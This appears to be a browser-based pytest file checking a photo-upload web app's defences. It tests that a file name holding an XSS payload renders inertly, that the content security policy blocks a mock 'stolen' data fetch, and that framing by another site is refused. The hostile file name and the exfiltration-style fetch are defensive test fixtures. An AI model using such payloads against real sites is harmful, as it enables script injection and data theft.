"""What a browser makes of hostile names and of the headers."""

from __future__ import annotations

import http.server
import io
import threading
import zipfile

import pytest

pytestmark = pytest.mark.browser

NAME = "<img src=x onerror='window.hacked=1'>.jpg"


@pytest.fixture
def page(launch, app):
    with launch() as chromium:
        page = chromium.new_page(viewport={"width": 1280, "height": 900})
        page.set_default_timeout(60_000)
        page.goto(f"{app.address}/?tab=batch")
        page.locator("#batch-files").wait_for()
        yield page


def test_markup_in_a_files_name_is_shown_and_does_nothing(page, photo):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(NAME, photo)
    files = [
        {"name": "moles.zip", "mimeType": "application/zip", "buffer": packed.getvalue()},
        {"name": NAME.replace("/", ""), "mimeType": "image/jpeg", "buffer": photo},
    ]
    page.locator("#batch-files input[type=file]").set_input_files(files)
    page.locator("#batch-csv a").wait_for()
    page.locator("#batch-table").get_by_text("onerror").filter(visible=True).first.wait_for()
    assert page.evaluate("window.hacked") is None
    assert page.locator("img[src='x']").count() == 0


def test_a_script_on_the_page_can_send_nothing_elsewhere(page):
    said = page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
            fetch("http://localhost:9/stolen").catch(() => setTimeout(() => resolve("not stopped"), 1000));
        })"""
    )
    assert said == "connect-src"


def test_another_site_cannot_show_the_page_in_a_frame(launch, app):
    class Frame(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<iframe src='{app.address}/'></iframe>".encode())

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Frame)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with launch() as chromium:
            page, said = chromium.new_page(), []
            page.on("console", lambda message: said.append(message.text))
            page.goto(f"http://localhost:{server.server_port}/")
            page.wait_for_timeout(2000)
            assert any("frame-ancestors" in text for text in said), said
            assert page.frames[1].locator("#choose-photo").count() == 0
    finally:
        server.shutdown()
